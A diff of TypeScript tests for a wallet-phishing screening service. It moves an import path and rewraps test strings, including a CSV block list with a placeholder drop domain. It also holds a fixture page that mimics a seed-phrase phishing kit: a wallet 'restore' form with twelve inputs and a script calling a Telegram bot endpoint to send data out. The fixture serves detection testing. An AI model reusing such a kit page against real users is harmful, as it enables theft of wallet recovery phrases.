@@ -3,7 +3,7 @@ import fs from 'node:fs';
 import http from 'node:http';
 import path from 'node:path';
 import { startTestServer } from '../helpers/app.ts';
-import { adminCommands } from '../../src/cli/admin-commands.ts';
+import { adminCommands } from '../../src/app/admin-commands.ts';
 import { parseList } from '../../src/screening/lists/parse-list.ts';
 
 const DATA = path.resolve(import.meta.dirname, '../../../shared/datasets/screening');
@@ -20,7 +20,8 @@ t.test('v1 screening scan and feedback through the real app', async (t) => {
   t.equal(await adminCommands['lists.insert'](srv.store.db, { ...mm }), false, 'the same version is stored once');
   const csv = parseList(
     'csv',
-    'kind,value,chain,disposition\naddress,0x00000000000000000000000000000000deadbeef,evm,block\ndomain,evil-drop.example,,block\n',
+    'kind,value,chain,disposition\naddress,0x00000000000000000000000000000000deadbeef,evm,block\ndomain,' +
+      'evil-drop.example,,block\n',
     { name: 'ops-blocklist', version: '2026-11-01' },
   );
   await adminCommands['lists.insert'](srv.store.db, { ...csv });
@@ -179,8 +180,10 @@ t.test(
 t.test('kit memory: a kit blocked with wallet lures is recognised on other hosts', async (t) => {
   const inputs = Array.from({ length: 12 }, (_, i) => `<input type="text" name="w${i + 1}">`).join('');
   const kitPage = (receiver: string) =>
-    `<html><head><title>Restore</title><script>const r='${receiver}';fetch('https://api.telegram.org/bot123:abc/sendMessage')</script></head>` +
-    `<body><h2>Enter your 12-word recovery phrase to restore your wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`;
+    `<html><head><title>Restore</title><script>const ` +
+    `r='${receiver}';fetch('https://api.telegram.org/bot123:abc/sendMessage')</script></head>` +
+    `<body><h2>Enter your 12-word recovery phrase to restore your ` +
+    `wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`;
   const plain = '<html><head><title>Blog</title><script>console.log(1)</script></head><body><p>hello</p></body></html>';
   // three loopback hosts (127.0.0.1-3) serving the same kit with a different receiver address each
   const sites = await Promise.all(
